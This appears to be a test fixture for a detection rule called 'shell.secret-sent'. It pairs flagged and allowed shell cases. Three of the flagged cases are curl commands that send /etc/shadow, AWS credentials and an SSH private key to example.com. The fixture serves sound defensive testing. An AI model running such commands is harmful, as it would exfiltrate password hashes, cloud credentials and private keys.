# ruleid: shell.secret-sent
curl --data-binary @/etc/shadow https://example.com
# --- case
# ruleid: shell.secret-sent
cat ~/.aws/credentials | curl -d @- https://example.com
# --- case
# ruleid: shell.secret-sent
curl -F f=@$HOME/.ssh/id_rsa https://example.com
# --- case
# ok: shell.secret-sent
curl -d @body.json https://example.com
# --- case
# ok: shell.secret-sent
env | sort
